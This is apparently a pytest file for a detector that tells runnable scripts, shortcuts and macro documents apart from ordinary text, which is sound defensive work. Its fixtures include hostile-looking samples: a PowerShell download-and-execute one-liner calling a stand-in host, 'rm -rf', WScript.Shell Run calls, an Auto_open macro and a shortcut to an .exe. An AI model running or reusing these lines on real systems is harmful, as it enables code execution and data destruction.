"""Text that runs is recognised by its own words; text about such things is not."""

import pytest

from rules.facts import Kind
from rules.reading.scripts import script_sign


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("#!/bin/sh\nrm -rf x\n", Kind.SCRIPT),
        ("@echo off\r\nstart calc\r\n", Kind.SCRIPT),
        ("IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')", Kind.SCRIPT),
        ("$env:TEMP\nWrite-Host 'hello'\nStart-Process notepad\n", Kind.SCRIPT),
        ('Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', Kind.SCRIPT),
        ("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", Kind.SCRIPT),
        ("#@~^XAAAAA==-mD,/,'~", Kind.SCRIPT),
        ('<job id="a"><script language="VBScript">x</script></job>', Kind.SCRIPT),
        ('<html><head><HTA:APPLICATION id="a"></head></html>', Kind.SCRIPT),
        ('<?xml version="1.0"?><scriptlet><registration/></scriptlet>', Kind.SCRIPT),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]", Kind.SCRIPT),
        ("[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n", Kind.SHORTCUT),
        ("[Desktop Entry]\nExec=sh -c x\n", Kind.SHORTCUT),
        ('<?xml version="1.0"?><libraryDescription xmlns="x"/>', Kind.SHORTCUT),
        ("screen mode id:i:2\r\nfull address:s:host.example\r\n", Kind.SHORTCUT),
        ('[Version]\r\nSignature="$CHICAGO$"\r\n', Kind.SCRIPT),
        ("WEB\r\n1\r\nhttps://a.example/x\r\n", Kind.SHORTCUT),
        ("; a remark\r\n[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n", Kind.SHORTCUT),
        ("full address:s:host.example\r\n", Kind.SHORTCUT),
        ('<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0">', Kind.SCRIPT),
        ("<office:document><ooo:module><ooo:source-code>Sub Main", Kind.MACRO_DOCUMENT),
        ("ID;PWXL;N;E\r\nC;Y1;X1;K1\r\n", Kind.MACRO_DOCUMENT),
        ("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\n", Kind.MACRO_DOCUMENT),
        ("ID\nO;E\nNN;NAuto_open;ER101C1\n", Kind.MACRO_DOCUMENT),
        ("WEB\r1\rhttps://a.example/x\r", Kind.SHORTCUT),
        ("WEB \n 1 \nhttps://a.example/x\n", Kind.SHORTCUT),
        ('<package><component id="a"><script language="JScript">x</script></component></package>', Kind.SCRIPT),
        ('<component><registration progid="a"/><script language="VBScript">x</script></component>', Kind.SCRIPT),
        ('<a:assembly xmlns:a="urn:schemas-microsoft-com:asm.v1"><deployment install="true"/>', Kind.INSTALLER),
        ('<Project><Target Name="a"><Exec Command="calc"/></Target></Project>', Kind.SCRIPT),
        ('<Project>\n<UsingTask TaskName="a" TaskFactory="CodeTaskFactory">', Kind.SCRIPT),
        ("XLODBC\r\n1\r\nDRIVER={x}\r\n", Kind.SHORTCUT),
        ('<html><xml id="msodc"><odc:OfficeDataConnection><odc:Connection odc:Type="OLEDB">', Kind.SHORTCUT),
    ],
)
def test_scripts_are_known_by_content(text, kind):
    assert script_sign(text.encode()).kind is kind


@pytest.mark.parametrize("table", ["ID;Parcel;Owner\n7;Oak Street;Ann\n", "ID;Name\n1;Ann\n", "ID\n17\n18\n"])
def test_a_table_whose_first_column_is_called_id_is_none(table):
    assert script_sign(table.encode()) is None


def test_a_script_in_utf_16_is_read():
    assert script_sign("\ufeff@echo off\r\n".encode("utf-16-le")).text == "batch commands"


@pytest.mark.parametrize(
    "text",
    [
        "Please run setup.exe, then powershell, and call me if Windows asks anything.",
        "Dim lights in the hall; set the clock; function of the committee (see var. 2).",
        "Start the meeting. Goto page 3 if exist doubts about the budget.",
        "name,street\nOak,2\n",
        "# Minutes\n\n! important\n",
        "The script of the play is attached.",
        "An encoded script begins with #@~^ and its length.",
        '{"name": "x", "function": "var"}',
        '<assembly xmlns="urn:schemas-microsoft-com:asm.v1"><trustInfo/></assembly>',
        "<project><execution><exec.mainClass>a</exec.mainClass></execution></project>",
    ],
)
def test_letters_and_lists_are_no_scripts(text):
    assert script_sign(text.encode()) is None


@pytest.mark.parametrize(("more", "found"), [(0, True), (1, False)])
def test_a_script_that_shows_itself_as_late_as_is_looked_for_and_later(more, found):
    """Later it is text, unless it is called a script."""
    blanks = b" " * (64 * 1024 - len("#!/") + more)
    assert (script_sign(blanks + b"#!/bin/sh") is not None) == found


@pytest.mark.parametrize(("more", "found"), [(0, True), (1, False)])
def test_a_first_line_as_long_as_linux_looks_at_and_longer(more, found):
    assert (script_sign(b"#!" + b" " * (256 - len("#!/") + more) + b"/bin/sh") is not None) == found
